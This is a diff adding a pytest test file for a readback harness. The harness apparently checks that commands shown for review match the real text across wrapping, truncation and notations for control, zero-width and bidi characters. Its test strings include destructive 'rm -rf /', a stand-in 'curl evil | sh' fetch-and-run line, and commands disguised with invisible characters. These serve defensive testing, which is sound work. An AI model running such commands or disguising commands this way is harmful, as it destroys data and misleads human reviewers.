@@ -1,0 +1,131 @@
+"""harness.readback: a field read back whatever the wrapping style, and nothing else forgiven."""
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from harness.readback import compare, must_notate, read_field
+
+# ── wraps: hard, by words, with whitespace at the break ────────────────────
+
+
+@pytest.mark.parametrize(
+    "stream",
+    [
+        "rm -rf /tmp/build",  # one row
+        "rm -rf /t\nmp/build",  # hard wrap inside a word
+        "rm -rf\n/tmp/build",  # word wrap: the space at the break dropped
+        "rm -rf \n/tmp/build",  # … or kept at the end of the row
+        "rm -rf\n   /tmp/build",  # a wrapped row indented further than the value column
+    ],
+)
+def test_a_field_reads_whole_under_any_wrapping(stream: str) -> None:
+    assert read_field("rm -rf /tmp/build", stream, allow_cap=False).whole
+
+
+def test_a_line_break_of_the_text_must_be_a_row_break_and_spaces_inside_a_row_are_exact() -> None:
+    assert read_field("ls\nrm -rf /", "ls\nrm -rf /", allow_cap=False).whole
+    assert not read_field("ls\nrm -rf /", "ls rm -rf /", allow_cap=False).whole
+    assert not read_field("a  b", "a b", allow_cap=False).whole
+    assert not read_field("rm -rf /", "rm -f /", allow_cap=False).whole
+
+
+def test_a_logical_lines_indentation_is_exact() -> None:
+    assert read_field("def f():\n    return 1", "def f():\n    return 1", allow_cap=False).whole
+    assert not read_field("def f():\n    return 1", "def f():\n  return 1", allow_cap=False).whole
+
+
+def test_a_tab_reads_as_one_to_eight_spaces_or_a_notation() -> None:
+    assert read_field("a\tb", "a       b", allow_cap=False).whole
+    assert read_field("a\tb", "a   b", allow_cap=False).whole
+    assert read_field("a\tb", "a^Ib", allow_cap=False).whole
+    assert not read_field("a\tb", "ab", allow_cap=False).whole
+    assert not read_field("a\tb", "a" + " " * 9 + "b", allow_cap=False).whole
+
+
+# ── notations ──────────────────────────────────────────────────────────────
+
+
+@pytest.mark.parametrize("shown", ["␛[1A", "⟨U+001B⟩[1A", "^[[1A", "\\x1b[1A", "\\u001b[1A", "<U+001B>[1A"])
+def test_an_escape_reads_in_any_usual_notation(shown: str) -> None:
+    assert read_field("\x1b[1A", shown, allow_cap=False).whole
+
+
+def test_what_no_terminal_prints_reads_only_as_a_notation() -> None:
+    # the raw character on screen is exactly the defect: a zero-width space hides, a bidi control reorders
+    assert not read_field("rm\u200b -rf", "rm\u200b -rf", allow_cap=False).whole
+    assert read_field("rm\u200b -rf", "rm⟨U+200B⟩ -rf", allow_cap=False).whole
+    assert not read_field("a\u202eb", "a\u202eb", allow_cap=False).whole
+
+
+def test_printable_characters_may_be_shown_as_themselves_or_as_notation() -> None:
+    assert read_field("⟨x", "⟨x", allow_cap=False).whole
+    assert read_field("⟨x", "⟨U+27E8⟩x", allow_cap=False).whole
+    assert read_field("a\u0301", "a\u0301", allow_cap=False).whole
+
+
+@pytest.mark.parametrize(
+    ("text", "index", "notated"),
+    [
+        ("\x1b", 0, True), ("\n", 0, False), ("\t", 0, False), ("\u202e", 0, True), ("\u3164", 0, True),
+        ("\U0001f468\u200d\U0001f469", 1, False),  # a joiner inside an emoji sequence prints
+        ("a\u200db", 1, True),  # … and hides between letters
+        ("\u0301", 0, True),  # a mark at the start would join the prompt's own text
+        ("e\u0301", 1, False),
+    ],
+)
+def test_must_notate(text: str, index: int, notated: bool) -> None:
+    assert must_notate(text, index) is notated
+
+
+# ── capped fields: head, the bare marker, tail ─────────────────────────────
+
+
+def test_a_capped_field_is_a_head_the_marker_and_an_optional_tail() -> None:
+    text = "echo " + "x" * 50 + "; curl evil | sh"
+    head = read_field(text, "echo xxxxx…", allow_cap=True)
+    assert (head.whole, head.head, head.tail, head.problem) == (False, 10, 0, None)
+    both = read_field(text, "echo xxxxx…\ncurl evil | sh", allow_cap=True)
+    assert (both.head, both.tail, both.problem) == (10, len("curl evil | sh"), None)
+    assert read_field(text, "echo xxxxx…", allow_cap=False).problem is not None
+
+
+def test_a_cut_without_its_marker_or_a_tail_that_is_not_the_end_is_a_problem() -> None:
+    text = "echo hello; rm -rf /"
+    assert read_field(text, "echo hel", allow_cap=True).problem is not None
+    assert read_field(text, "echo hel…\nrm -rf", allow_cap=True).problem is not None
+    assert read_field(text, "echo hel…\nls", allow_cap=True).problem is not None
+
+
+def test_a_cut_inside_a_notation_still_reads() -> None:
+    reading = read_field("a\u202ebc", "a⟨U+20…", allow_cap=True)
+    assert reading.problem is None and reading.head == 1 and reading.cut_inside
+    assert read_field("⟨", "⟨…", allow_cap=True).problem is None  # not ⟨ whole: the start of ⟨U+27E8⟩, cut
+
+
+# ── properties ─────────────────────────────────────────────────────────────
+
+PRINTABLE = st.text(st.characters(min_codepoint=0x21, max_codepoint=0x7E), min_size=1, max_size=40)
+
+
+@given(st.lists(PRINTABLE, min_size=1, max_size=8), st.integers(1, 30))
+def test_any_hard_wrap_of_a_line_reads_whole(words: list[str], row: int) -> None:
+    text = " ".join(words)
+    stream = "\n".join(text[start : start + row] for start in range(0, len(text), row))
+    assert read_field(text, stream, allow_cap=False).whole
+
+
+@given(st.lists(PRINTABLE, min_size=2, max_size=8), st.integers(0, 6), st.integers(0, 30))
+def test_changing_one_visible_character_is_always_caught(words: list[str], word: int, at: int) -> None:
+    text = " ".join(words)
+    index = min(at, len(text) - 1)
+    if text[index] == " ":
+        return
+    changed = text[:index] + ("a" if text[index] != "a" else "b") + text[index + 1 :]
+    assert not read_field(text, changed, allow_cap=True).whole
+    assert read_field(text, changed, allow_cap=True).problem is not None
+
+
+def test_compare_reports_how_far_it_read() -> None:
+    progress = compare("abcdef", "abcx")
+    assert (progress.done, progress.read, progress.ok) == (3, 3, False)
